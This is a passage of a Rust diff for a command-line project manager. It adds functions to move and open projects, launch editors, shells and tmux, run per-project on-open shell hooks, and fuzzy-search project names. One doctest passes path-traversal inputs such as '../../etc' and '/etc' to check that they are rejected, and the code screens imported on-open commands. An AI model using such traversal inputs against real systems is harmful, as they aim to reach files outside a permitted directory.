+/// # let tmp = std::env::temp_dir().join(format!("tpm-doctest-{}", std::process::id()));
+/// # let _ = std::fs::remove_dir_all(&tmp);
+/// # std::fs::create_dir_all(&tmp).unwrap();
+/// # std::env::set_var("HOME", &tmp);
+/// # std::env::set_var("XDG_CONFIG_HOME", tmp.join(".config"));
+/// use std::fs;
+/// use tpm_lib::{add_project, get_projects, move_project};
+///
+/// let dir = tmp.join("move");
+/// fs::create_dir_all(dir.join("before")).unwrap();
+/// fs::write(dir.join("before").join("README.md"), "hi").unwrap();
+/// add_project("move-example", dir.join("before").to_str().unwrap(), &[], "").unwrap();
+///
+/// let after = dir.join("after");
+/// move_project("move-example", after.to_str().unwrap()).unwrap();
+/// assert!(!dir.join("before").exists());
+/// assert_eq!(fs::read_to_string(after.join("README.md")).unwrap(), "hi");
+/// let project = get_projects().unwrap().into_iter().find(|p| p.to_string().starts_with("move-example ")).unwrap();
+/// assert_eq!(project.to_string(), format!("move-example ({})", after.canonicalize().unwrap().display()));
+///
+/// // the destination must not exist yet
+/// fs::create_dir_all(dir.join("taken")).unwrap();
+/// assert!(move_project("move-example", dir.join("taken").to_str().unwrap()).is_err());
+/// # std::fs::remove_dir_all(&tmp).unwrap();
+/// ```
+pub fn move_project(name: &str, new_path: &str) -> Result<String, DynErr> {
+    let mut projects = get_projects()?;
+    let project = projects
+        .iter_mut()
+        .find(|project| project.name == name)
+        .ok_or_else(|| format!("Project {} not found", name))?;
+    let old_path = project.canonical_project_path()?;
+    let new_path = expand_path(new_path)?;
+    if new_path.exists() {
+        return Err(format!("{} already exists", new_path.display()).into());
+    }
+    if let Some(parent) = new_path
+        .parent()
+        .filter(|parent| !parent.as_os_str().is_empty())
+    {
+        fs::create_dir_all(parent)?;
+    }
+    match fs::rename(&old_path, &new_path) {
+        Err(err) if err.kind() == io::ErrorKind::CrossesDevices => {
+            fs::create_dir(&new_path)?;
+            copy_dir_contents(&old_path, &new_path)?;
+            fs::remove_dir_all(&old_path)?;
+        }
+        result => result?,
+    }
+    let new_path = new_path.canonicalize()?;
+    project.set_path(
+        new_path
+            .to_str()
+            .ok_or("Problem converting path to string")?,
+    )?;
+    save_projects(&projects)?;
+
+    Ok(format!("Moved {} to {}", name, new_path.display()))
+}
+
+#[derive(Debug, Clone, Copy, PartialEq)]
+pub enum OpenAction {
+    /// Open the project in the terminal (cd into the project folder)
+    OpenInTerminal,
+    /// Open the project in the default editor
+    OpenInEditor,
+    /// Print the project path, for shell functions that `cd` into it
+    PrintPath,
+    /// Open the project in a new tmux window, when running inside tmux
+    OpenInTmux,
+    /// Write the project path to the `last_cd` file, for a shell prompt hook
+    /// that `cd`s into it, instead of starting a new shell
+    PrintCd,
+}
+
+/// Options that control how a project is opened.
+#[derive(Debug, Clone, Default, PartialEq)]
+pub struct OpenOptions {
+    /// Reuse the current editor window instead of opening a new one
+    pub replace_editor: bool,
+    /// Launch the editor detached and return immediately
+    pub background: bool,
+    /// Pick a file or directory in the project to open in the editor
+    pub select_file: bool,
+    /// Extra environment variables for the spawned shell or editor
+    pub env: Vec<(String, String)>,
+    /// Editor command to use instead of `$EDITOR`
+    pub editor_cmd: Option<String>,
+    /// Directory inside the project to open instead of the project directory
+    pub subdir: Option<String>,
+    /// Report what would be run instead of opening the project
+    pub dry_run: bool,
+}
+
+/// Joins `subdir` onto a project directory, returning an error if the result
+/// doesn't exist, isn't a directory, or is outside the project directory.
+///
+/// # Examples
+///
+/// ```
+/// # let tmp = std::env::temp_dir().join(format!("tpm-doctest-{}", std::process::id()));
+/// # let _ = std::fs::remove_dir_all(&tmp);
+/// # std::fs::create_dir_all(&tmp).unwrap();
+/// # std::env::set_var("HOME", &tmp);
+/// # std::env::set_var("XDG_CONFIG_HOME", tmp.join(".config"));
+/// use std::fs;
+/// use tpm_lib::resolve_subdir;
+///
+/// let project_dir = tmp.join("subdir");
+/// fs::create_dir_all(project_dir.join("packages/api")).unwrap();
+///
+/// let api = resolve_subdir(&project_dir, "packages/api").unwrap();
+/// assert_eq!(api, project_dir.join("packages/api").canonicalize().unwrap());
+/// assert!(resolve_subdir(&project_dir, "../../etc").is_err());
+/// assert!(resolve_subdir(&project_dir, "/etc").is_err());
+/// assert!(resolve_subdir(&project_dir, "packages/web").is_err());
+/// # std::fs::remove_dir_all(&tmp).unwrap();
+/// ```
+pub fn resolve_subdir(project_dir: &Path, subdir: &str) -> Result<PathBuf, DynErr> {
+    let project_dir = project_dir.canonicalize()?;
+    let relative = Path::new(subdir);
+    if relative.is_absolute() || relative.components().any(|c| c == Component::ParentDir) {
+        return Err(format!("{} is not inside the project directory", subdir).into());
+    }
+    let dir = project_dir.join(relative);
+    if !dir.is_dir() {
+        return Err(format!("{} is not a directory", dir.display()).into());
+    }
+    // symlinks inside the project could still point outside of it
+    let dir = dir.canonicalize()?;
+    if !dir.starts_with(&project_dir) {
+        return Err(format!("{} is not inside the project directory", subdir).into());
+    }
+
+    Ok(dir)
+}
+
+/// Parses a `KEY=VALUE` environment variable assignment.
+///
+/// # Examples
+///
+/// ```
+/// use tpm_lib::parse_env_var;
+///
+/// let (key, value) = parse_env_var("RUST_LOG=debug").unwrap();
+/// assert_eq!((key.as_str(), value.as_str()), ("RUST_LOG", "debug"));
+/// assert!(parse_env_var("RUST_LOG").is_err());
+/// assert!(parse_env_var("=debug").is_err());
+/// ```
+pub fn parse_env_var(assignment: &str) -> Result<(String, String), DynErr> {
+    match assignment.split_once('=') {
+        Some((key, value)) if !key.is_empty() && !key.contains(char::is_whitespace) => {
+            Ok((key.to_string(), value.to_string()))
+        }
+        _ => Err(format!("Invalid environment variable: {assignment}. Expected KEY=VALUE").into()),
+    }
+}
+
+/// Opens a project in a new shell in its directory or in the editor, and
+/// records it as the most recently opened project.
+///
+/// `name` can be followed by a directory inside the project, like
+/// `my-project/packages/api`, to open that directory instead (see
+/// [`resolve_subdir`]).
+///
+/// Returns an error, without changing when the project was last opened, if
+/// the project's directory no longer exists. If `confirm_shell_spawn` is set
+/// in the config, asks before starting the shell.
+///
+/// # Examples
+///
+/// ```
+/// # let tmp = std::env::temp_dir().join(format!("tpm-doctest-{}", std::process::id()));
+/// # let _ = std::fs::remove_dir_all(&tmp);
+/// # std::fs::create_dir_all(&tmp).unwrap();
+/// # std::env::set_var("HOME", &tmp);
+/// # std::env::set_var("XDG_CONFIG_HOME", tmp.join(".config"));
+/// use std::fs;
+/// use tpm_lib::{add_project, get_projects, open_project, OpenAction, OpenOptions};
+///
+/// let dir = tmp.join("open-missing");
+/// fs::create_dir_all(&dir).unwrap();
+/// add_project("open-missing-example", dir.to_str().unwrap(), &[], "").unwrap();
+/// fs::remove_dir(&dir).unwrap();
+///
+/// let find = || get_projects().unwrap().into_iter().find(|p| p.to_string().starts_with("open-missing-example "));
+/// let before = find();
+/// assert!(open_project("open-missing-example", OpenAction::OpenInTerminal, &OpenOptions::default()).is_err());
+/// assert_eq!(find(), before);
+/// # std::fs::remove_dir_all(&tmp).unwrap();
+/// ```
+///
+/// With `dry_run`, nothing is run and the project isn't marked as opened:
+///
+/// ```
+/// # let tmp = std::env::temp_dir().join(format!("tpm-doctest-{}", std::process::id()));
+/// # let _ = std::fs::remove_dir_all(&tmp);
+/// # std::fs::create_dir_all(&tmp).unwrap();
+/// # std::env::set_var("HOME", &tmp);
+/// # std::env::set_var("XDG_CONFIG_HOME", tmp.join(".config"));
+/// use std::fs;
+/// use tpm_lib::{add_project, get_projects, open_project, HandlerOutcome, OpenAction, OpenOptions};
+///
+/// let dir = tmp.join("open-dry-run");
+/// fs::create_dir_all(&dir).unwrap();
+/// add_project("open-dry-run-example", dir.to_str().unwrap(), &[], "").unwrap();
+///
+/// let options = OpenOptions { dry_run: true, editor_cmd: Some("sh".into()), ..OpenOptions::default() };
+/// let before = get_projects().unwrap();
+/// // nothing was opened, so the outcome is a plain message rather than `OpenedProjects`
+/// let outcome = open_project("open-dry-run-example", OpenAction::OpenInTerminal, &options).unwrap();
+/// assert!(matches!(&outcome, HandlerOutcome::Message(message) if message.starts_with("[dry run] start ")));
+/// let outcome = open_project("open-dry-run-example", OpenAction::OpenInEditor, &options).unwrap();
+/// assert!(matches!(&outcome, HandlerOutcome::Message(message) if message.starts_with("[dry run] run: sh ")));
+/// assert_eq!(get_projects().unwrap(), before);
+///
+/// // printing the path leaves opening it to the shell
+/// let outcome = open_project("open-dry-run-example", OpenAction::PrintPath, &OpenOptions::default()).unwrap();
+/// assert!(matches!(outcome, HandlerOutcome::Message(_)));
+/// # std::fs::remove_dir_all(&tmp).unwrap();
+/// ```
+pub fn open_project(
+    name: &str,
+    open_action: OpenAction,
+    options: &OpenOptions,
+) -> Result<HandlerOutcome, DynErr> {
+    let mut projects = get_projects()?;
+    let (name, name_subdir) = match find_project_by_name_or_alias(&projects, name) {
+        Some(project) => (project.name.clone(), None),
+        None => match name.split_once('/') {
+            Some((base, subdir)) => match find_project_by_name_or_alias(&projects, base) {
+                Some(project) => (project.name.clone(), Some(subdir)),
+                None => (name.to_string(), None),
+            },
+            None => (name.to_string(), None),
+        },
+    };
+    let name = name.as_str();
+    let subdir = match (name_subdir, &options.subdir) {
+        (Some(a), Some(b)) => Some(Path::new(a).join(b).to_string_lossy().into_owned()),
+        (a, b) => a.map(String::from).or_else(|| b.clone()),
+    };
+
+    if let Some((i, project)) = projects
+        .clone()
+        .iter_mut()
+        .enumerate()
+        .find(|(_, project)| project.name == name)
+    {
+        let project_dir = project.canonical_project_path()?;
+        let dir = match &subdir {
+            Some(subdir) => resolve_subdir(&project_dir, subdir)?,
+            None => project_dir,
+        };
+        let dir = dir.to_str().ok_or("Problem converting path to string")?;
+        if open_action == OpenAction::OpenInTmux && !options.dry_run {
+            check_tmux()?;
+        }
+        if open_action == OpenAction::OpenInTerminal
+            && !options.dry_run
+            && load_config().confirm_shell_spawn
+            && !confirm(&format!("Start a new shell in {}?", dir), true)?
+        {
+            return Ok(HandlerOutcome::Canceled);
+        }
+
+        let mut dry_run_hook = None;
+        if options.dry_run {
+            if open_action != OpenAction::PrintPath {
+                dry_run_hook = project
+                    .on_open
+                    .as_ref()
+                    .map(|command| format!("[dry run] run on open: {}", command));
+            }
+        } else {
+            projects[i].set_last_opened()?;
+            save_projects(&projects)?;
+
+            if open_action != OpenAction::PrintPath {
+                if let Err(err) = run_on_open_hook(project) {
+                    eprintln!("{}", err);
+                }
+            }
+        }
+
+        let message = match open_action {
+            OpenAction::OpenInTerminal => change_directory(dir, &options.env, options.dry_run)?,
+            OpenAction::PrintCd => {
+                let last_cd_file = get_config_dir()?.join(LAST_CD_FILE);
+                if options.dry_run {
+                    format!("[dry run] write {} to {}", dir, last_cd_file.display())
+                } else {
+                    write_atomic(&last_cd_file, dir)?;
+                    String::new()
+                }
+            }
+            OpenAction::OpenInTmux => {
+                let args = tmux_new_window_args(name, dir, &options.env);
+                if options.dry_run {
+                    format!("[dry run] run: tmux {}", args.join(" "))
+                } else if Command::new("tmux").args(&args).status()?.success() {
+                    format!("Opened {} in a new tmux window", name)
+                } else {
+                    return Err("tmux couldn't open a new window".into());
+                }
+            }
+            OpenAction::PrintPath => Path::new(dir)
+                .canonicalize()?
+                .to_str()
+                .ok_or("Problem converting path to string")?
+                .to_string(),
+            OpenAction::OpenInEditor => {
+                let target = if options.select_file && !options.dry_run {
+                    match select_project_entry(dir)? {
+                        Some(entry) => entry,
+                        None => return Ok(HandlerOutcome::Canceled),
+                    }
+                } else {
+                    PathBuf::from(dir)
+                };
+                let target = target.to_str().ok_or("Problem converting path to string")?;
+                open_in_editor(target, options)?
+            }
+        };
+
+        // printing a path or `cd` opens nothing; the shell does that
+        let opened =
+            !options.dry_run && !matches!(open_action, OpenAction::PrintPath | OpenAction::PrintCd);
+        return Ok(match dry_run_hook {
+            Some(hook) => HandlerOutcome::Message(format!("{}\n{}", hook, message)),
+            None if opened => HandlerOutcome::OpenedProjects {
+                names: vec![name.to_string()],
+                message,
+            },
+            None => HandlerOutcome::Message(message),
+        });
+    }
+
+    let suggestions = suggest_project_names(name, &projects);
+    if suggestions.is_empty() {
+        return Err(format!("Project {} not found", name).into());
+    }
+
+    if !console::user_attended() {
+        return Err(format!(
+            "Project {} not found, did you mean: {}",
+            name,
+            suggestions.join(", ")
+        )
+        .into());
+    }
+
+    let selection = Select::with_theme(&ColorfulTheme::default())
+        .with_prompt(format!("Project {} not found, did you mean", name))
+        .items(&suggestions)
+        .default(0)
+        .interact_opt()?;
+
+    match selection {
+        Some(i) => open_project(suggestions[i], open_action, options),
+        None => Ok(HandlerOutcome::Canceled),
+    }
+}
+
+/// Runs the project's `on_open` command, if it has one, through the shell in
+/// the project directory.
+///
+/// Returns an error if the command can't be run or exits unsuccessfully.
+///
+/// # Examples
+///
+/// ```
+/// # let tmp = std::env::temp_dir().join(format!("tpm-doctest-{}", std::process::id()));
+/// # let _ = std::fs::remove_dir_all(&tmp);
+/// # std::fs::create_dir_all(&tmp).unwrap();
+/// # std::env::set_var("HOME", &tmp);
+/// # std::env::set_var("XDG_CONFIG_HOME", tmp.join(".config"));
+/// use std::fs;
+/// use tpm_lib::{run_on_open_hook, Project};
+///
+/// let dir = tmp.join("on-open");
+/// fs::create_dir_all(&dir).unwrap();
+/// let dir = dir.canonicalize().unwrap();
+/// let mut project: Project = serde_json::from_value(serde_json::json!({
+///     "name": "on-open-example",
+///     "path": dir,
+///     "last_opened": {"secs": 0, "nanos": 0},
+/// }))
+/// .unwrap();
+///
+/// project.set_on_open("pwd > hook-ran.txt");
+/// run_on_open_hook(&project).unwrap();
+/// let pwd = fs::read_to_string(dir.join("hook-ran.txt")).unwrap();
+/// assert_eq!(pwd.trim(), dir.to_str().unwrap());
+///
+/// project.set_on_open("exit 3");
+/// assert!(run_on_open_hook(&project).is_err());
+/// # std::fs::remove_dir_all(&tmp).unwrap();
+/// ```
+pub fn run_on_open_hook(project: &Project) -> Result<(), DynErr> {
+    let Some(command) = &project.on_open else {
+        return Ok(());
+    };
+    let status = shell_command(command)
+        .current_dir(project.canonical_project_path()?)
+        .status()?;
+    if !status.success() {
+        return Err(format!(
+            "The on-open command for {} ({}) failed with {}",
+            project.name, command, status
+        )
+        .into());
+    }
+
+    Ok(())
+}
+
+/// Builds a command that runs `command` through `sh -c`, or `cmd /C` on
+/// Windows, so it can have arguments and shell syntax.
+fn shell_command(command: &str) -> Command {
+    let mut shell = if cfg!(windows) {
+        let mut shell = Command::new(default_shell());
+        shell.arg("/C");
+        shell
+    } else {
+        let mut shell = Command::new("sh");
+        shell.arg("-c");
+        shell
+    };
+    shell.arg(command);
+    shell
+}
+
+/// Shows `text` through `$PAGER` (default `less`) if stdout is a terminal
+/// that it doesn't fit in, unless `no_pager` is set. Otherwise, or if the
+/// pager can't be started, returns it as the message to print.
+fn page_output(text: String, no_pager: bool) -> Result<HandlerOutcome, DynErr> {
+    let term = console::Term::stdout();
+    let fits = !term.is_term() || text.lines().count() < usize::from(term.size().0);
+    if no_pager || fits {
+        return Ok(HandlerOutcome::Message(text));
+    }
+
+    let pager = env::var("PAGER")
+        .ok()
+        .filter(|pager| !pager.trim().is_empty())
+        .unwrap_or_else(|| "less".to_string());
+    let mut command = shell_command(&pager);
+    if env::var_os("LESS").is_none() {
+        // like git: keep the colors, and leave the list on screen after quitting
+        command.env("LESS", "FRX");
+    }
+    let mut child = match command.stdin(Stdio::piped()).spawn() {
+        Ok(child) => child,
+        Err(err) => {
+            eprintln!("Warning: could not start the pager {}: {}", pager, err);
+            return Ok(HandlerOutcome::Message(text));
+        }
+    };
+    if let Some(mut stdin) = child.stdin.take() {
+        // the pager can quit before reading everything, e.g. on `q` in less
+        let _ = writeln!(stdin, "{}", text);
+    }
+    child.wait()?;
+
+    Ok(HandlerOutcome::Message(String::new()))
+}
+
+/// Drops the `on_open` commands in `incoming` that the project of the same
+/// name in `current` doesn't already have, unless the user is shown each one
+/// and keeps it. This way a file from elsewhere can't run commands on open.
+///
+/// Without a terminal to ask on, new commands are dropped. `--yes` doesn't
+/// keep them either.
+fn confirm_new_on_open_commands(incoming: &mut [Project], current: &[Project]) {
+    for project in incoming {
+        let Some(command) = &project.on_open else {
+            continue;
+        };
+        let known = current
+            .iter()
+            .any(|p| p.name == project.name && p.on_open.as_ref() == Some(command));
+        if known {
+            continue;
+        }
+        // not `confirm`, so `--yes` doesn't agree to run it
+        let keep = Confirm::with_theme(&ColorfulTheme::default())
+            .with_prompt(format!(
+                "{} runs `{}` whenever it's opened. Keep this command?",
+                project.name, command
+            ))
+            .default(false)
+            .interact()
+            .unwrap_or(false);
+        if !keep {
+            eprintln!(
+                "Warning: dropped the on-open command of {}: {}",
+                project.name, command
+            );
+            project.on_open = None;
+        }
+    }
+}
+
+/// Scores how well `query` fuzzily matches `candidate`, or returns `None` if
+/// the characters of `query` don't appear in order in `candidate`.
+///
+/// Matching is case-insensitive. Higher scores are better: consecutive
+/// matches and matches at the start of a word are rewarded, gaps are penalized.
+///
+/// # Examples
+///
+/// ```
+/// use tpm_lib::fuzzy_score;
+///
+/// assert!(fuzzy_score("tpm", "travvy-project-manager").is_some());
+/// assert!(fuzzy_score("xyz", "travvy-project-manager").is_none());
+/// assert!(fuzzy_score("proj", "project").unwrap() > fuzzy_score("proj", "p-r-o-j").unwrap());
+/// ```
+pub fn fuzzy_score(query: &str, candidate: &str) -> Option<i64> {
+    let candidate = candidate.to_lowercase().chars().collect::<Vec<_>>();
+    let mut score = 0;
+    let mut last_match: Option<usize> = None;
+    let mut start = 0;
+
+    for q in query.to_lowercase().chars() {
+        let offset = candidate[start..].iter().position(|&c| c == q)?;
+        let i = start + offset;
+        score += 1;
+        if i == 0 || !candidate[i - 1].is_alphanumeric() {
+            score += 3;
+        }
+        match last_match {
+            Some(last) if last + 1 == i => score += 5,
+            Some(last) => score -= (i - last - 1) as i64,
+            None => score -= i as i64,
+        }
+        last_match = Some(i);
+        start = i + 1;
+    }
+
+    Some(score)
+}
+
+/// Returns the projects whose name or path contains `query`, ignoring case.
+///
+/// # Examples
+///
+/// ```
+/// use tpm_lib::{search_projects, Project};
+///
+/// let mut project = Project::default();
+/// project.rename("Website").unwrap();
+/// project.set_path("/code/client-site").unwrap();
+///
+/// assert_eq!(search_projects("web", &[project.clone()]).len(), 1);
+/// assert_eq!(search_projects("CLIENT", &[project.clone()]).len(), 1);
+/// assert!(search_projects("api", &[project]).is_empty());
+/// ```
+pub fn search_projects(query: &str, projects: &[Project]) -> Vec<Project> {
+    let query = query.to_lowercase();
+    projects
+        .iter()
+        .filter(|p| {
+            p.name.to_lowercase().contains(&query) || p.path.to_lowercase().contains(&query)
+        })
+        .cloned()
+        .collect()
+}
+
+/// Returns the projects whose name or path fuzzily matches `query` (see
+/// [`fuzzy_score`]), best matches first.
+pub fn fuzzy_search_projects(query: &str, projects: &[Project]) -> Vec<Project> {
+    let mut scored = projects
+        .iter()
+        .filter_map(|p| {
+            let score = fuzzy_score(query, &p.name).max(fuzzy_score(query, &p.path))?;
+            Some((score, p))
+        })
+        .collect::<Vec<_>>();
+    scored.sort_by_key(|&(score, _)| std::cmp::Reverse(score));
+
+    scored.into_iter().map(|(_, p)| p.clone()).collect()
+}
+
+/// Returns up to five project names that fuzzily match `name`, best first.
+fn suggest_project_names<'a>(name: &str, projects: &'a [Project]) -> Vec<&'a str> {
+    let mut scored = projects
+        .iter()
+        .filter_map(|p| fuzzy_score(name, &p.name).map(|score| (score, p.name.as_str())))
+        .collect::<Vec<_>>();
+    scored.sort_by_key(|&(score, _)| std::cmp::Reverse(score));
+
+    scored.into_iter().take(5).map(|(_, name)| name).collect()
+}
+
+/// Shows a `Select` of the top-level files and directories in a project and
+/// returns the absolute path of the chosen entry, or `None` if the user backs out.
+///
+/// An empty project directory falls back to the project root.
+pub(crate) fn select_project_entry(project_path: &str) -> Result<Option<PathBuf>, DynErr> {
+    let root = PathBuf::from(project_path);
+    let mut entries = fs::read_dir(&root)
+        .map_err(|err| format!("Could not read {}: {}", project_path, err))?
+        .filter_map(|entry| entry.ok())
+        .collect::<Vec<_>>();
+
+    if entries.is_empty() {
+        println!("Project directory is empty, opening the project root");
+        return Ok(Some(root));
+    }
+
+    entries.sort_by_key(|entry| entry.file_name());
+    let labels = entries
+        .iter()
+        .map(|entry| {
+            let name = entry.file_name().to_string_lossy().to_string();
+            if entry.path().is_dir() {
+                format!("{}/", name)
+            } else {
+                name
+            }
+        })
+        .collect::<Vec<_>>();
+
+    let term_height = console::Term::stdout().size().0;
+    let selection = Select::with_theme(&ColorfulTheme::default())
+        .with_prompt("Select a file to open")
+        .items(&labels)
+        .default(0)
+        .max_length(term_height as usize - 1)
+        .interact_opt()?;
+
+    Ok(selection.map(|i| root.join(entries[i].file_name())))
+}
+
+/// Returns the directory new projects are created in by default:
+/// `$TPM_PROJECTS_DIR` if it is set, then `default_project_dir` from the
+/// config file, otherwise `$HOME/projects`.
+///
+/// # Examples
+///
+/// ```
+/// # let tmp = std::env::temp_dir().join(format!("tpm-doctest-{}", std::process::id()));
+/// # let _ = std::fs::remove_dir_all(&tmp);
+/// # std::fs::create_dir_all(&tmp).unwrap();
+/// # std::env::set_var("HOME", &tmp);
+/// # std::env::set_var("XDG_CONFIG_HOME", tmp.join(".config"));
+/// # std::env::remove_var("TPM_PROJECTS_DIR");
+/// use std::{env, path::PathBuf};
+/// use tpm_lib::default_projects_dir;
+///
+/// env::set_var("HOME", "/home/me");
+/// assert_eq!(default_projects_dir(), PathBuf::from("/home/me/projects"));
+///
+/// env::set_var("TPM_PROJECTS_DIR", "~/dev");
+/// assert_eq!(default_projects_dir(), PathBuf::from("/home/me/dev"));
+/// # std::fs::remove_dir_all(&tmp).unwrap();
+/// ```
+pub fn default_projects_dir() -> PathBuf {
+    env::var("TPM_PROJECTS_DIR")
+        .ok()
+        .or_else(|| load_config().default_project_dir)
+        .filter(|dir| !dir.trim().is_empty())
+        .and_then(|dir| expand_path(&dir).ok())
+        .unwrap_or_else(|| home_dir().join("projects"))
+}
+
+/// Returns the user's home directory: `$HOME`, or `%USERPROFILE%` on Windows
+/// where `$HOME` usually isn't set. Falls back to `/` if neither is set.
+///
+/// # Examples
+///
+/// ```
+/// use std::{env, path::PathBuf};
+/// use tpm_lib::home_dir;
+///
+/// env::set_var("HOME", "/home/me");
+/// assert_eq!(home_dir(), PathBuf::from("/home/me"));
+///
+/// env::remove_var("HOME");
+/// env::set_var("USERPROFILE", r"C:\Users\me");
+/// assert_eq!(home_dir(), PathBuf::from(r"C:\Users\me"));
+/// ```
+pub fn home_dir() -> PathBuf {
+    ["HOME", "USERPROFILE"]
+        .into_iter()
+        .filter_map(env::var_os)
+        .find(|dir| !dir.is_empty())
+        .map_or_else(|| PathBuf::from("/"), PathBuf::from)
+}
+
+/// Returns the shell to start in a project directory: `%COMSPEC%` (usually
+/// `cmd.exe`) on Windows, `$SHELL` elsewhere.
+fn default_shell() -> String {
+    if cfg!(windows) {
+        env::var("COMSPEC").unwrap_or_else(|_| "cmd.exe".to_string())
+    } else {
+        env::var("SHELL").unwrap_or_else(|_| "/bin/sh".to_string())
+    }
+}
+
+/// Returns an error unless `tpm` is running inside tmux and tmux is installed.
+fn check_tmux() -> Result<(), DynErr> {
+    if env::var_os("TMUX").is_none() {
+        return Err(
+            "Not inside tmux ($TMUX isn't set). Start tmux first, or open without --tmux".into(),
+        );
+    }
+    if find_command("tmux").is_none() {
+        return Err("tmux not found. Check that it is installed and on your PATH".into());
+    }
+    Ok(())
+}
+
+/// Builds the arguments to `tmux` that open a new window named `name` in `dir`,
+/// with `env` set in it.
+///
+/// # Examples
+///
+/// ```
+/// use tpm_lib::tmux_new_window_args;
+///
+/// assert_eq!(
+///     tmux_new_window_args("my-project", "/code/my-project", &[]),
+///     ["new-window", "-n", "my-project", "-c", "/code/my-project"]
+/// );
+/// let env = [("RUST_LOG".to_string(), "debug".to_string())];
+/// assert_eq!(
+///     tmux_new_window_args("api", "/code/api", &env),
+///     ["new-window", "-n", "api", "-c", "/code/api", "-e", "RUST_LOG=debug"]
+/// );
+/// ```
+pub fn tmux_new_window_args(name: &str, dir: &str, env: &[(String, String)]) -> Vec<String> {
+    let mut args = ["new-window", "-n", name, "-c", dir]
+        .map(String::from)
+        .to_vec();
+    for (key, value) in env {
+        args.push("-e".to_string());
+        args.push(format!("{}={}", key, value));
+    }
+    args
+}
+
+/// Starts a shell in `new_dir`, blocking until the user exits it.
+pub(crate) fn change_directory(
+    new_dir: &str,
+    env: &[(String, String)],
+    dry_run: bool,
+) -> io::Result<String> {
+    let path = Path::new(&new_dir);
+    if path.exists() && path.is_dir() {
+        if dry_run {
+            return Ok(format!(
+                "[dry run] start {} in {}",
+                default_shell(),
+                new_dir
+            ));
+        }
+        env::set_current_dir(path)?;
+        return match Command::new(default_shell())
+            .envs(env.iter().cloned())
+            .status()
+        {
+            Ok(status) => {
+                if status.success() {
+                    Ok("changed directory".to_string())
+                } else {
+                    Err(io::Error::other("Failed to change directory"))
+                }
+            }
+            Err(err) => Err(err),
+        };
+    }
+
+    Err(io::Error::new(
+        io::ErrorKind::NotFound,
+        "Directory not found",
+    ))
+}
+
+/// Returns the editor to use when none is configured: `$VISUAL`, then
+/// `$EDITOR`, then the first of `nvim`, `vim`, `code`, and `nano` found on
+/// `PATH`, falling back to `vim`.
+///
+/// # Examples
+///
+/// ```
+/// use std::env;
+/// use tpm_lib::resolve_editor;
+///
+/// env::set_var("VISUAL", "hx");
+/// env::set_var("EDITOR", "nano");
+/// assert_eq!(resolve_editor(), "hx");
+///
+/// env::set_var("VISUAL", "");
+/// assert_eq!(resolve_editor(), "nano");
+///
+/// env::remove_var("VISUAL");
+/// env::remove_var("EDITOR");
+/// env::set_var("PATH", "");
+/// assert_eq!(resolve_editor(), "vim");
+/// ```
+pub fn resolve_editor() -> String {
+    ["VISUAL", "EDITOR"]
+        .into_iter()
+        .filter_map(|var| env::var(var).ok())
+        .find(|editor| !editor.trim().is_empty())
+        .or_else(|| {
+            ["nvim", "vim", "code", "nano"]
+                .into_iter()
+                .find(|editor| find_command(editor).is_some())
+                .map(String::from)
+        })
+        .unwrap_or_else(|| "vim".to_string())
+}
+
+/// Opens the given path in the user's editor (see [`resolve_editor`]).
+///
+/// If `options.background` is true, the editor is spawned detached with its
+/// output discarded and this returns immediately instead of waiting for it to exit.
+pub(crate) fn open_in_editor(path: &str, options: &OpenOptions) -> Result<String, DynErr> {
+    let config = load_config();
+    let editor = match &options.editor_cmd {
+        Some(editor_cmd) => {
+            if find_command(editor_cmd).is_none() {
+                return Err(format!(
+                    "Editor {} not found. Check that it is installed and on your PATH",
+                    editor_cmd
+                )
+                .into());
+            }
+            editor_cmd.clone()
+        }
+        None => config.editor.unwrap_or_else(resolve_editor),
+    };
+    let workspace = if is_vscode(&editor) {
+        choose_code_workspace(Path::new(path))?
+    } else {
+        None
+    };
+    let path = match &workspace {
+        Some(workspace) => workspace.to_str().unwrap_or(path),
+        None => path,
+    };
+    let args = editor_args(&editor, path, options.replace_editor, &config.replace_flags);
+    if options.replace_editor && replace_flag(&editor, &config.replace_flags).is_none() {
+        eprintln!(
+            "Note: --replace isn't supported for {}, set its flag in replace_flags in config.toml",
+            editor
+        );
+    }
+
+    if options.dry_run {
+        let background = if options.background {
+            " (in the background)"
+        } else {
+            ""
+        };
+        return Ok(format!(
+            "[dry run] run: {} {}{}",
+            editor,
+            args.join(" "),
+            background
+        ));
+    }
+
+    if options.background {
+        Command::new(&editor)
+            .args(&args)
+            .envs(options.env.iter().cloned())
+            .stdin(Stdio::null())
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .spawn()?;
+        return Ok("opened in editor".to_string());
+    }
+
+    match Command::new(&editor)
+        .args(&args)
+        .envs(options.env.iter().cloned())
+        .status()
+    {
+        Ok(status) => {
+            if status.success() {
+                Ok("opened in editor".to_string())
+            } else {
+                Err(io::Error::other("Failed to open in editor").into())
+            }
+        }
+        Err(err) => Err(err.into()),
+    }
+}
+
+/// Editors that can open a project in their current window, and the flag that
+/// makes them do it, for `open --replace`.
+pub const REPLACE_FLAGS: [(&str, &str); 6] = [
+    ("code", "--reuse-window"),
+    ("code-insiders", "--reuse-window"),
+    ("codium", "--reuse-window"),
+    ("cursor", "--reuse-window"),
+    ("subl", "-a"),
+    ("zed", "--reuse"),
+];
+
+/// Returns the flag that makes `editor` open a project in its current window,
+/// if it has one. `editor` may be a path; only its file name is looked up.
+///
+/// `overrides` (the `replace_flags` config setting) take precedence over
+/// [`REPLACE_FLAGS`], and an empty flag means the editor has none.
+///
+/// # Examples
+///
+/// ```
+/// use std::collections::BTreeMap;
+/// use tpm_lib::replace_flag;
+///
+/// let none = BTreeMap::new();
+/// assert_eq!(replace_flag("code", &none).as_deref(), Some("--reuse-window"));
+/// assert_eq!(replace_flag("/usr/local/bin/subl", &none).as_deref(), Some("-a"));
+/// assert_eq!(replace_flag("nvim", &none), None);
+///
+/// let overrides = BTreeMap::from([
+///     ("nvim".to_string(), "--remote".to_string()),
+///     ("code".to_string(), String::new()),
+/// ]);
+/// assert_eq!(replace_flag("nvim", &overrides).as_deref(), Some("--remote"));
+/// assert_eq!(replace_flag("code", &overrides), None);
+/// ```
+pub fn replace_flag(editor: &str, overrides: &BTreeMap<String, String>) -> Option<String> {
+    let name = Path::new(editor)
+        .file_name()
+        .and_then(|name| name.to_str())
+        .unwrap_or(editor);
+    let flag = match overrides.get(name) {
+        Some(flag) => flag.as_str(),
+        None => REPLACE_FLAGS
+            .iter()
+            .find(|(known, _)| *known == name)
+            .map(|(_, flag)| *flag)?,
+    };
+    (!flag.is_empty()).then(|| flag.to_string())
+}
+
+/// Builds the arguments passed to `editor` to open `path`.
+///
